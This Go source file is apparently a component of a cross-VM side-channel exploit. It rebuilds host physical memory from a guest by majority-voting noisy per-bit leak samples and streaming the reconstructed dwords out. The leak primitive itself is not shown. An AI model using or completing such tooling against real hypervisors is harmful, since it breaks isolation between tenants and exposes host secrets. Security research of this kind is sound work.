// Package leak turns many noisy single-run measurements into reconstructed
// host physical memory, one dword at a time.
package leak

import (
	"encoding/binary"
	"fmt"
	"io"
)

// Sample is one guest-reported measurement: a raw dword and the mask of
// bits the guest considers trustworthy. Bits outside the mask carry no
// information and must not vote.
type Sample struct {
	Value    uint32
	Sureness uint32
}

// DwordLeaker runs the victim guest once against a host physical address.
// *machine.Machine implements it.
type DwordLeaker interface {
	TryLeakDword(pa uint64) (Sample, error)
}

// AddressSink is told which physical address the cache primer should keep
// hot. *primer.Primer implements it.
type AddressSink interface {
	SetPhysAddress(pa uint64)
}

// Reconstructor accumulates per-bit votes across samples. The zero value
// is an empty tally.
type Reconstructor struct {
	low  [32]int
	high [32]int
}

// Record tallies one sample: every sure bit votes for exactly one of its
// two counters, unsure bits vote for neither.
func (r *Reconstructor) Record(s Sample) {
	for bit := 0; bit < 32; bit++ {
		mask := uint32(1) << bit

		if s.Sureness&mask == 0 {
			continue
		}

		if s.Value&mask != 0 {
			r.high[bit]++
		} else {
			r.low[bit]++
		}
	}
}

// MostLikely returns the majority-vote value. A bit is set iff it saw
// strictly more high than low votes; ties and empty tallies read as 0.
func (r *Reconstructor) MostLikely() uint32 {
	var v uint32

	for bit := 0; bit < 32; bit++ {
		if r.high[bit] > r.low[bit] {
			v |= uint32(1) << bit
		}
	}

	return v
}

// Up to 32 vote batches of 16 runs each per dword. Enough signal on a
// quiet sibling core, small enough to keep zero-filled spans moving.
const (
	DefaultTries = 32
	DefaultVotes = 16
)

// Session leaks a span of host physical memory dword by dword and writes
// the little-endian result stream to Out.
//
// A reconstructed zero is indistinguishable from "no signal yet", so every
// genuinely zero dword burns the whole retry budget before zero is emitted.
// That bias comes with the protocol; callers see slow zeros, not wrong ones.
type Session struct {
	Leaker DwordLeaker
	Primer AddressSink // may be nil when no primer thread is racing
	Out    io.Writer

	// Tries and Votes override the default budgets when positive.
	Tries int
	Votes int
}

func (s *Session) tries() int {
	if s.Tries > 0 {
		return s.Tries
	}

	return DefaultTries
}

func (s *Session) votes() int {
	if s.Votes > 0 {
		return s.Votes
	}

	return DefaultVotes
}

// Run covers size bytes starting at physAddr, advancing 4 bytes per
// reconstructed dword.
func (s *Session) Run(physAddr, size uint64) error {
	var word [4]byte

	for off := uint64(0); off < size; off += 4 {
		pa := physAddr + off

		if s.Primer != nil {
			s.Primer.SetPhysAddress(pa)
		}

		var leaked uint32

		for try := s.tries(); leaked == 0 && try > 0; try-- {
			rec := Reconstructor{}

			for i := 0; i < s.votes(); i++ {
				smp, err := s.Leaker.TryLeakDword(pa)
				if err != nil {
					return fmt.Errorf("leak %#x: %w", pa, err)
				}

				rec.Record(smp)
			}

			leaked = rec.MostLikely()
		}

		binary.LittleEndian.PutUint32(word[:], leaked)

		if _, err := s.Out.Write(word[:]); err != nil {
			return fmt.Errorf("write result stream: %w", err)
		}
	}

	return nil
}
